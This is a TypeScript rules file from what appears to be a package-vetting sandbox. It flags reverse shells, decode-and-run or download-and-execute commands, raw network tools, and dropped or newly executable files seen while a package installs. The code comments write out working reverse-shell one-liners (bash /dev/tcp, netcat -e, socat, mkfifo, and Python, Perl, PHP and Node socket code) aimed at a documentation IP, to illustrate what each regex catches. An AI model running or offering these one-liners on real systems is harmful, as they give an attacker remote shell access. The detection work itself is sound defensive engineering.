import type { PhaseName, ProcessEntry, Severity } from '@vetbox/contracts';
import { appendTo, shortArgv, isToolchain, programName, type Draft, type Evidence, type RuleContext } from '../context.js';
import { binaryHost, hostMatches, isReleaseArtifactPath, normalizeHost, RELEASE_HOSTS, TOOLCHAIN_HOSTS } from '../hosts.js';

const SHELL = /^(sh|bash|dash|zsh|ksh|mksh|ash|busybox|fish)$/;
const INTERPRETER = /^(python[\d.]*|node|nodejs|perl[\d.]*|ruby[\d.]*|php[\d.]*|deno|bun|pwsh|powershell)$/;
const RAW_NET_TOOL = /^(nc|ncat|netcat|nc\.traditional|nc\.openbsd|socat|telnet)$/;
const DOWNLOAD_TOOL = /^(curl|wget|tftp|ftp|aria2c|lwp-download|fetch)$/;
const RUNNER = '(sudo\\s+)?(env\\s+)?((ba|da|z|k)?sh|python[\\d.]*|perl|node|ruby|php)\\b';

/** The text patterns below read: the whole command line (a `sh -c` script is one argument). */
function commandLine(p: ProcessEntry): string {
  return p.argv.join(' ');
}

const EVAL_FLAGS: Record<string, RegExp> = {
  python: /^-[a-zA-Z]*c$/,
  node: /^(-e|--eval|-p|--print|-pe)$/,
  nodejs: /^(-e|--eval|-p|--print|-pe)$/,
  perl: /^-[a-zA-Z]*[eE]$/,
  ruby: /^-[a-zA-Z]*e$/,
  php: /^-r$/,
  deno: /^eval$/,
  bun: /^(-e|--eval|-p|--print)$/,
  pwsh: /^-(c|command|e|enc|encodedcommand)$/i,
  powershell: /^-(c|command|e|enc|encodedcommand)$/i,
};

// pip runs a legacy setup.py through its own generated `python -c` wrapper (exec(compile(...))):
// the wrapper is pip's code; what setup.py then does is judged like anything else.
const PIP_SETUP_SHIM = '<pip-setuptools-caller>';

/** The code of an interpreter one-liner (`python -c CODE`, `node -e CODE`), if this is one. */
function oneLiner(p: ProcessEntry): { lang: string; code: string } | undefined {
  const prog = programName(p);
  if (!INTERPRETER.test(prog)) return undefined;
  const lang = prog.replace(/[\d.]+$/, '');
  const flag = EVAL_FLAGS[lang];
  if (!flag) return undefined;
  // Only options before the script name belong to the interpreter.
  for (let i = 1; i < p.argv.length; i += 1) {
    const arg = p.argv[i]!;
    if (flag.test(arg)) {
      const code = p.argv.slice(i + 1).join(' ');
      if (p.argv[i + 1] === undefined || code.includes(PIP_SETUP_SHIM)) return undefined;
      return { lang: lang === 'nodejs' ? 'node' : lang, code };
    }
    if (!arg.startsWith('-')) return undefined;
  }
  return undefined;
}

interface Hit {
  severity: Severity;
  why: string;
}

// --- reverse-shell ----------------------------------------------------------------------------

export const REVERSE_SHELL_TEXT: Array<{ re: RegExp; why: string }> = [
  // bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
  { re: /\/dev\/(tcp|udp)\/[^\s/]+\/\d+[\s\S]*(>&|<&|0>&1)|(>&|<>)\s*\/dev\/(tcp|udp)\//, why: "shell redirected to bash's /dev/tcp socket" },
  // nc -e /bin/sh 203.0.113.7 4444 ; ncat --exec "/bin/bash" ...
  { re: /\b(nc|ncat|netcat)(\.\w+)?\b[^|;&]*\s(-e|-c|--exec|--sh-exec)\s*["']?\S*(sh|bash)\b/, why: 'netcat executing a shell for the peer' },
  // socat TCP:203.0.113.7:4444 EXEC:/bin/sh
  { re: /\bsocat\b[\s\S]*\b(exec|system):[\s\S]*\b(tcp|udp|openssl)[\w-]*:|\bsocat\b[\s\S]*\b(tcp|udp|openssl)[\w-]*:[\s\S]*\b(exec|system):/i, why: 'socat connecting a shell to a socket' },
  // rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
  { re: /mkfifo[\s\S]*\b(ba)?sh\b[\s\S]*\b(nc|ncat|netcat|telnet)\b|mkfifo[\s\S]*\b(nc|ncat|netcat|telnet)\b[\s\S]*\b(ba)?sh\b/, why: 'named pipe between a shell and netcat' },
  // python -c 'import socket,os,pty;s=socket.socket();s.connect(...);os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
  { re: /socket[\s\S]*(dup2|pty\.spawn)|(dup2|pty\.spawn)[\s\S]*socket/, why: 'socket duplicated onto the standard streams of a shell' },
  // perl -e 'use Socket;...;exec("/bin/sh -i");'
  { re: /Socket[\s\S]*exec\s*\(?\s*["']\/bin\/(ba)?sh/, why: 'Perl/Ruby socket handed to a shell' },
  // php -r '$sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
  { re: /fsockopen[\s\S]*(exec|shell_exec|system|passthru|proc_open)\s*\(/, why: 'PHP socket handed to a shell' },
  // node -e 'const c=net.connect(4444,"203.0.113.7",()=>{const sh=spawn("/bin/sh");c.pipe(sh.stdin);sh.stdout.pipe(c)})'
  { re: /net\.(connect|Socket|createConnection)[\s\S]*(spawn|exec)\s*\(\s*["'](\/bin\/)?(ba)?sh[\s\S]*pipe/, why: 'Node socket piped into a shell' },
];

function reverseShellHit(p: ProcessEntry): Hit | undefined {
  const prog = programName(p);
  if (p.stdioSocket && (SHELL.test(prog) || INTERPRETER.test(prog))) {
    return { severity: 'critical', why: `${prog} started with a network socket as its stdin/stdout` };
  }
  const text = commandLine(p);
  const match = REVERSE_SHELL_TEXT.find((r) => r.re.test(text));
  return match ? { severity: 'critical', why: match.why } : undefined;
}

// --- shell-execution --------------------------------------------------------------------------

export const DECODE_AND_RUN = new RegExp(
  `(base64\\s+(-d|--decode|-D)\\b|base32\\s+(-d|--decode)|openssl\\s+(enc\\s+)?(-d\\b|-a\\b|-base64|base64)|xxd\\s+-r|\\bgunzip\\b|\\bzcat\\b|\\brev\\b)[^;&]*\\|\\s*${RUNNER}`,
);
// eval "$(...)", sh -c "$(...)", bash <(...)
const EVAL_SUBSTITUTION = /\beval\b\s*["']?\s*(\$\(|`)|\b(ba|da|z)?sh\s+-c\s+["']?\s*(\$\(|`)|\b(ba|da|z)?sh\s+<\(/;
const ONE_LINER_RISK: Record<string, RegExp> = {
  python: /\bexec\s*\(|\beval\s*\(|b64decode|base64|marshal\.loads|zlib\.decompress|codecs\.decode|__import__\s*\(|\bcompile\s*\(|pty\.spawn|os\.system|os\.popen|subprocess/,
  node: /child_process|\beval\s*\(|new\s+Function|\bFunction\s*\(|Buffer\.from\([^)]*base64|atob\s*\(|vm\.run/,
  perl: /\bsystem\b|\bexec\b|\beval\b|MIME::Base64|decode_base64|`/,
  ruby: /\bsystem\b|\bexec\b|\beval\b|Base64|`|%x/,
  php: /\bsystem\b|\bexec\b|shell_exec|passthru|\beval\b|base64_decode|proc_open/,
  pwsh: /-enc|FromBase64String|Invoke-Expression|\biex\b/i,
  powershell: /-enc|FromBase64String|Invoke-Expression|\biex\b/i,
};

/** The login shell the next-login phase itself starts (image/bin/next-login.cjs): interactive by design. */
const LOGIN_SHELL_ARGV = ['/bin/bash', '+o', 'history', '-l', '-i', '-c', 'true'].join('\u0000');
function isNextLoginShell(p: ProcessEntry): boolean {
  return p.phase === 'next-login' && p.trigger !== undefined && p.argv.join('\u0000') === LOGIN_SHELL_ARGV;
}

function shellExecutionHit(p: ProcessEntry): Hit | undefined {
  const text = commandLine(p);
  if (DECODE_AND_RUN.test(text)) return { severity: 'high', why: 'decodes hidden content and pipes it into a shell or interpreter' };
  if (EVAL_SUBSTITUTION.test(text)) return { severity: 'high', why: 'evaluates the output of another command as code' };
  const prog = programName(p);
  if (SHELL.test(prog) && p.argv.slice(1).some((a) => /^-[a-z]*i[a-z]*$/.test(a) && a !== '-c') && !isNextLoginShell(p)) {
    return { severity: 'high', why: 'started an interactive shell' };
  }
  if (SHELL.test(prog) && /\/dev\/(tcp|udp)\//.test(text)) return { severity: 'high', why: "uses bash's /dev/tcp network redirection" };
  const one = oneLiner(p);
  const risk = one ? ONE_LINER_RISK[one.lang] : undefined;
  if (one && risk?.test(one.code)) return { severity: 'high', why: `${one.lang} one-liner that executes dynamic code or commands` };
  return undefined;
}

// --- downloader-execution ---------------------------------------------------------------------

export const PIPE_DOWNLOAD_TO_RUNNER = new RegExp(`\\b(curl|wget|fetch)\\b[^|;&]*\\|\\s*${RUNNER}`);
const UPLOAD_FLAGS = /\s(-d|--data(-\w+)?|-F|--form|-T|--upload-file|--post-data|--post-file|--body-data|--body-file)(\s|=)/;
const ONE_LINER_FETCH: Record<string, RegExp> = {
  python: /urllib|urlopen|requests\.(get|post)|http\.client|socket\.|wget\./,
  node: /require\(\s*["'](node:)?(https?|net|dgram|tls)["']\s*\)|\bfetch\s*\(|XMLHttpRequest|https?\.get\s*\(|net\.connect/,
  perl: /LWP|IO::Socket|HTTP::Tiny|Net::HTTP/,
  ruby: /Net::HTTP|open-uri|TCPSocket|URI\.open/,
  php: /file_get_contents\(\s*["']https?:|fsockopen|curl_exec/,
  pwsh: /Invoke-WebRequest|\biwr\b|Net\.WebClient|DownloadString|DownloadFile/i,
  powershell: /Invoke-WebRequest|\biwr\b|Net\.WebClient|DownloadString|DownloadFile/i,
};

function urlTargets(text: string): Array<{ host: string; path: string }> {
  return [...text.matchAll(/\b(?:https?|ftp):\/\/([^/\s"'`:]+)(?::\d+)?([^\s"'`]*)/gi)].map((m) => ({ host: normalizeHost(m[1]!), path: m[2] || '/' }));
}

/** A well-known release/toolchain/binary host, or a host the package declared when the URL names a release artifact. */
function releaseTarget(ctx: RuleContext, t: { host: string; path: string }): boolean {
  if ([...RELEASE_HOSTS, ...TOOLCHAIN_HOSTS].some((k) => hostMatches(t.host, k)) || binaryHost(t.host)) return true;
  return ctx.releaseHosts.some((k) => hostMatches(t.host, k)) && isReleaseArtifactPath(t.path);
}

function downloaderHit(ctx: RuleContext, p: ProcessEntry): Hit | undefined {
  const text = commandLine(p);
  if (PIPE_DOWNLOAD_TO_RUNNER.test(text)) return { severity: 'high', why: 'downloads code and pipes it straight into a shell or interpreter' };
  const prog = programName(p);
  if (RAW_NET_TOOL.test(prog)) return { severity: 'high', why: `runs the raw network tool ${prog}` };
  if (DOWNLOAD_TOOL.test(prog)) {
    if (UPLOAD_FLAGS.test(` ${text} `)) return { severity: 'high', why: `${prog} sends data (upload/post flags)` };
    const targets = urlTargets(text);
    const hosts = targets.map((t) => t.host);
    if (targets.length > 0 && targets.every((t) => releaseTarget(ctx, t))) {
      return { severity: 'low', why: `${prog} downloads from a release host (${[...new Set(hosts)].join(', ')}); rated low` };
    }
    return { severity: 'medium', why: `${prog} downloads from ${hosts.join(', ') || 'an unnamed destination'}` };
  }
  const one = oneLiner(p);
  const fetch = one ? ONE_LINER_FETCH[one.lang] : undefined;
  if (one && fetch?.test(one.code)) {
    const runs = ONE_LINER_RISK[one.lang]?.test(one.code);
    return { severity: runs ? 'high' : 'medium', why: `${one.lang} one-liner that fetches from the network${runs ? ' and executes code' : ''}` };
  }
  return undefined;
}

// --- shared grouping: one finding per rule and phase, at the worst severity seen ---------------

const RANK: Record<Severity, number> = { critical: 4, high: 3, medium: 2, low: 1, info: 0 };

function perProcessRule(
  ctx: RuleContext,
  rule: string,
  detect: (p: ProcessEntry) => Hit | undefined,
  skip: (p: ProcessEntry) => boolean = () => false,
): Draft[] {
  const byPhase = new Map<PhaseName, { severity: Severity; evidence: Evidence[]; reasons: Set<string> }>();
  for (const { entry, index } of ctx.packageProcesses()) {
    if (skip(entry)) continue;
    const hit = detect(entry);
    if (!hit) continue;
    const group = byPhase.get(entry.phase) ?? { severity: 'info' as Severity, evidence: [], reasons: new Set<string>() };
    if (RANK[hit.severity] > RANK[group.severity]) group.severity = hit.severity;
    group.reasons.add(hit.why);
    group.evidence.push(ctx.processEvidence(index, `${hit.why}: ${shortArgv(entry.argv, 200)}`));
    byPhase.set(entry.phase, group);
  }
  return [...byPhase].map(([phase, g]) => ({
    rule,
    severity: g.severity,
    phase,
    evidence: g.evidence,
    detail: `Seen: ${[...g.reasons].join('; ')}.`,
  }));
}

export function reverseShell(ctx: RuleContext): Draft[] {
  return perProcessRule(ctx, 'reverse-shell', reverseShellHit);
}

export function shellExecution(ctx: RuleContext): Draft[] {
  // A reverse shell is reported as such; repeating it as shell-execution adds nothing.
  return perProcessRule(ctx, 'shell-execution', shellExecutionHit, (p) => reverseShellHit(p) !== undefined);
}

export function downloaderExecution(ctx: RuleContext): Draft[] {
  return perProcessRule(ctx, 'downloader-execution', (p) => downloaderHit(ctx, p), (p) => reverseShellHit(p) !== undefined);
}

// --- dropped-executable-run -------------------------------------------------------------------

const WRITE_OPS = new Set(['write', 'create', 'rename']);

/** The file a process runs: its executable, or the script an interpreter/shell was given. */
function executedPaths(ctx: RuleContext, p: ProcessEntry): string[] {
  const out: string[] = [];
  if (p.exe) out.push(ctx.absolute(p.exe, p.pid));
  const first = p.argv[0];
  if (first && first.includes('/')) out.push(ctx.absolute(first, p.pid));
  const prog = programName(p);
  if ((SHELL.test(prog) || INTERPRETER.test(prog)) && !oneLiner(p)) {
    const script = p.argv.slice(1).find((a) => !a.startsWith('-'));
    if (script && !(SHELL.test(prog) && p.argv.includes('-c'))) out.push(ctx.absolute(script, p.pid));
  }
  return [...new Set(out)];
}

export function droppedExecutableRun(ctx: RuleContext): Draft[] {
  // Files package code wrote outside its own directory (build products of compilers excluded).
  const dropped = new Map<string, { index: number; tMs?: number }>();
  ctx.behavior.files.forEach((f, index) => {
    if (!WRITE_OPS.has(f.op) || f.result !== 'ok' || !ctx.isPackagePid(f.pid)) return;
    const writer = ctx.process(f.pid);
    if (writer && isToolchain(writer)) return;
    const path = ctx.absolute(f.op === 'rename' && f.target ? f.target : f.path, f.pid);
    if (ctx.inPackageArea(path) || dropped.has(path)) return;
    dropped.set(path, { index, tMs: f.tMs });
  });

  const byPhase = new Map<PhaseName, Evidence[]>();
  const add = (phase: PhaseName, ...ev: Evidence[]) => appendTo(byPhase, phase, ...ev);
  for (const { entry, index } of ctx.packageProcesses()) {
    const exe = entry.exe ?? '';
    if (/^\/memfd:|^\/proc\/(self|\d+)\/fd\/|\(deleted\)$/.test(exe)) {
      add(entry.phase, ctx.processEvidence(index, `executed code from memory or a deleted file: ${exe}`));
      continue;
    }
    for (const path of executedPaths(ctx, entry)) {
      const drop = dropped.get(path);
      if (!drop) continue;
      if (drop.tMs !== undefined && drop.tMs > entry.startMs) continue;
      add(
        entry.phase,
        ctx.fileEvidence(drop.index, `${ctx.describeProcess(ctx.behavior.files[drop.index]!.pid)} wrote ${ctx.displayPath(path)}`),
        ctx.processEvidence(index, `then executed it: ${shortArgv(entry.argv, 200)}`),
      );
    }
  }
  ctx.behavior.files.forEach((f, index) => {
    if (f.op !== 'exec' || !ctx.isPackagePid(f.pid)) return;
    const path = ctx.absolute(f.path, f.pid);
    const drop = dropped.get(path);
    if (!drop || (byPhase.get(f.phase) ?? []).some((e) => e.kind === 'file' && e.index === drop.index)) return;
    add(f.phase, ctx.fileEvidence(drop.index, `wrote ${ctx.displayPath(path)}`), ctx.fileEvidence(index, `then executed ${ctx.displayPath(path)}`));
  });
  return [...byPhase].map(([phase, evidence]) => ({ rule: 'dropped-executable-run', severity: 'high', phase, evidence }));
}

// --- executable-made-outside-package ----------------------------------------------------------

function addsExecBit(mode: string | undefined): boolean {
  if (!mode) return true;
  const n = Number.parseInt(mode, 8);
  return Number.isNaN(n) || (n & 0o111) !== 0;
}

const CHMOD_PLUS_X = /^(\+x|[ugoa]*\+[rwX]*x[rwX]*|[0-7]?[0-7]*[1357][0-7]*)$/;

export function executableMadeOutsidePackage(ctx: RuleContext): Draft[] {
  const byPhase = new Map<PhaseName, Evidence[]>();
  const add = (phase: PhaseName, ev: Evidence) => appendTo(byPhase, phase, ev);
  const seen = new Set<string>();
  // Directories carry x bits as a matter of course: chmod 755 on one prepares nothing.
  const directories = new Set(ctx.behavior.files.filter((f) => f.op === 'mkdir').map((f) => ctx.absolute(f.path, f.pid)));
  ctx.behavior.files.forEach((f, index) => {
    if (f.op !== 'chmod' || !addsExecBit(f.mode) || !ctx.isPackagePid(f.pid)) return;
    if (directories.has(ctx.absolute(f.path, f.pid)) || /\.(dist|egg)-info\/?$/.test(f.path)) return;
    const writer = ctx.process(f.pid);
    if (writer && isToolchain(writer)) return; // linkers mark their output executable
    if (ctx.inPackageArea(f.path, f.pid)) return;
    seen.add(ctx.absolute(f.path, f.pid));
    add(f.phase, ctx.fileEvidence(index, `${ctx.describeProcess(f.pid)} made ${ctx.displayPath(f.path, f.pid)} executable (mode ${f.mode ?? '?'})`));
  });
  // `chmod +x FILE` seen only as a process (no chmod record for it in the trace).
  for (const { entry, index } of ctx.packageProcesses()) {
    if (programName(entry) !== 'chmod') continue;
    const args = entry.argv.slice(1).filter((a) => !a.startsWith('-') || /^-[rwx]+$/.test(a));
    const mode = args[0];
    if (!mode || !CHMOD_PLUS_X.test(mode)) continue;
    const targets = args.slice(1).map((t) => ctx.absolute(t, entry.pid));
    const outside = targets.filter((t) => !ctx.inPackageArea(t) && !seen.has(t));
    if (outside.length === 0) continue;
    add(entry.phase, ctx.processEvidence(index, `chmod ${mode} ${outside.map((t) => ctx.displayPath(t)).join(' ')}`));
  }
  return [...byPhase].map(([phase, evidence]) => ({ rule: 'executable-made-outside-package', severity: 'medium', phase, evidence }));
}
